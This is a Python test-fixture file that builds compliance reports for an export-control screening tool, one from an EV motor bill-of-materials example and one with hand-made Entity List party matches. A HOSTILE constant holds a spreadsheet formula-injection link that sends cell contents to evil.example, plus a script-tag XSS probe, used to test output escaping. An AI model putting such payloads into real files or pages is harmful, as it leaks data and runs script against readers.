"""Reports for the format and gate tests: a real one from the BOM example, and a
hand-built one with party findings (list matches) and hostile text in every field."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from compliance.model.finding import Finding, FindingStatus, Match, Subject, fingerprint
from compliance.report.build import build_report
from compliance.model.report import InputProvenance, ListProvenance, RecordRef, Report
from compliance.rulepacks.loader import load_rules
from compliance.rulepacks.schema import Citation, Outcome, RuleKind, Severity
from compliance.rulepacks.timeline import Scenario
from compliance.pipeline import screen_bom

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "examples" / "ev-traction-motor.csv"
STAMP = dt.datetime(2026, 1, 1, 12, 0, tzinfo=dt.timezone.utc)


def example_report(as_of: str = "2026-01-01", fail_on: str = "high") -> Report:
    """The EV traction motor BOM screened in-process (paths relative, as a CI run gives them)."""
    result = screen_bom(EXAMPLE, rules=load_rules(), as_of=dt.date.fromisoformat(as_of), scenario=Scenario.AS_WRITTEN,
                        display_name="examples/ev-traction-motor.csv")
    return build_report(result, fail_on=fail_on, generated_at=STAMP)


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") | <script>alert(1)</script>'


def party_finding(name: str, row: int, severity: Severity, entry: str, score: float = 97.0, status=FindingStatus.OPEN) -> Finding:
    rule = "US-BIS-ENTITY-LIST"
    return Finding(
        fingerprint=fingerprint(rule, name, entry),
        rule_id=rule,
        kind=RuleKind.LISTED_PARTY,
        severity=severity,
        outcome=Outcome.LICENSE_REQUIRED,
        status=status,
        message=f"{name} matches an Entity List entry: licence required for all items subject to the EAR",
        subject=Subject(file="suppliers.csv", row=row, field="name", value=name, party_name=name, party_id=f"S-{row}"),
        match=Match(list="entity-list", entry_id=entry, name="HUAWEI TECHNOLOGIES CO., LTD.", matched_name=name, score=score, explanation="token-set 97; legal form 'Co., Ltd.' ignored"),
        evidence={"country": "CN", "aliases": ["Huawei", "华为技术有限公司"]},
        citation=Citation(document="15 CFR Part 744, Supplement No. 4", article="Huawei entry", url="https://www.ecfr.gov/current/title-15/part-744/appendix-Supplement%20No.%204%20to%20Part%20744"),
    )


def party_report(findings: list[Finding] | None = None, fail_on: str = "high") -> Report:
    findings = findings if findings is not None else [
        party_finding("Huawei Technologies Co Ltd", 2, Severity.HIGH, "el-huawei-1"),
        party_finding(HOSTILE, 3, Severity.MEDIUM, "el-evil-2", score=88.5),
        party_finding("-2+3 Trading, Inc.", 4, Severity.LOW, "el-minus-3", score=86),
    ]
    from compliance.model.report import Provenance, Tool, summarize

    inputs = [
        InputProvenance(
            path="suppliers.csv", kind="parties", sha256="0" * 64, rows_read=5, rows_screened=5, rows_rejected=0,
            records=[RecordRef(row=r, id=f"S-{r}") for r in range(2, 7)],
        )
    ]
    return Report(
        tool=Tool(version="0.1.0"),
        generated_at="2026-01-01T12:00:00Z",
        as_of="2026-01-01",
        scenario="as-written",
        fail_on=fail_on,
        provenance=Provenance(
            inputs=inputs,
            lists=[ListProvenance(id="entity-list", snapshot_date="2025-12-20", sha256="1" * 64, records=3000, source="CSL JSON")],
        ),
        summary=summarize(findings, inputs),
        findings=findings,
    )
